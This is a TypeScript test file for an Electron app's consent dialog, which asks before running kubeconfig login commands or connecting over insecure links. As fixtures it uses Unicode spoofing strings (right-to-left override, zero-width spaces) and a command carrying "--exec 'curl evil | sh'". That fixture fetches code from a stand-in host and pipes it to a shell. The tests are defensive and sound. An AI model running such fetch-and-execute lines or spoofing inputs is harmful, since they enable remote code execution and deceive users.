import { expect, test, vi } from 'vitest'

const place = vi.hoisted(() => ({ response: 0, shown: [] as { detail: string; message: string; defaultId: number; cancelId: number }[] }))
vi.mock('electron', () => ({
  dialog: {
    showMessageBox: async (_window: unknown, options: (typeof place.shown)[number]) => {
      place.shown.push(options)
      return { response: place.response }
    },
  },
}))
// Files share their modules: another may have loaded these over an Electron of its own.
vi.resetModules()
const { askConsent, wishQuestion } = await import('../../../main/window/consent')
const ask = (details: readonly string[]) => askConsent({} as never, { message: 'Add this?', details, agree: 'Add' })

test('agreeing goes on; anything else, Enter and Escape too, refuses', async () => {
  place.response = 1
  await expect(ask([])).resolves.toBeUndefined()
  place.response = 0
  await expect(ask([])).rejects.toMatchObject({ failure: { code: 'cancelled' } })
  expect(place.shown.at(-1)).toMatchObject({ defaultId: 0, cancelId: 0 })
})

test("strangers' text can neither turn, hide nor fake a line, nor push the question off the screen", async () => {
  place.response = 1
  await ask(['name\u202Egnp.exe\u200b', 'a\nIt is quite safe.', 'x'.repeat(10_000)])
  const { detail } = place.shown.at(-1)!
  expect(detail.split('\n')).toHaveLength(3)
  expect(detail).not.toMatch(/[\u202e\u200b]/)
  expect(detail.length).toBeLessThan(400)
  await ask(Array.from({ length: 500 }, (_, at) => `caution ${at}`))
  expect(place.shown.at(-1)!.detail.split('\n').at(-1)).toBe('And 488 more.')
})

test('a command is shown to its last character, with the program it comes to and the file it stands in, or it is not asked about', async () => {
  place.response = 1
  const command = `login --url https://example.com/${'x'.repeat(2_000)} --exec 'curl evil | sh' \u202e\nend`
  const wish = { kind: 'command' as const, marks: ['x'], command, program: `/opt/${'p'.repeat(80)}/login`, file: `/home/me/${'k'.repeat(80)}/config` }
  await askConsent({} as never, wishQuestion('prod', 'kubevirt:prod', wish))
  const { detail, message } = place.shown.at(-1)!
  expect(message).toBe('Run this command to log in to prod?')
  expect(detail.split('\n').slice(3).join('')).toBe(`Command: ${command.replace('\u202e\n', '\ufffd\ufffd')}Program: ${wish.program}Kubeconfig: ${wish.file}`)
  const before = place.shown.length
  await expect(askConsent({} as never, wishQuestion('prod', 'kubevirt:prod', { ...wish, command: 'x'.repeat(100_000) }))).rejects.toMatchObject({ failure: { code: 'denied' } })
  expect(place.shown).toHaveLength(before)
})

test('what is unsafe about a way is told with the server it leads to', async () => {
  place.response = 1
  await askConsent({} as never, wishQuestion('prod', 'kubevirt:prod', { kind: 'risks', marks: ['x'], server: 'http://10.0.0.1:8080/', risks: ['It is not encrypted.'] }))
  expect(place.shown.at(-1)).toMatchObject({ message: 'Connect to prod all the same?', detail: 'kubevirt:prod\nIt is not encrypted.\n\nServer: http://10.0.0.1:8080/', defaultId: 0 })
})
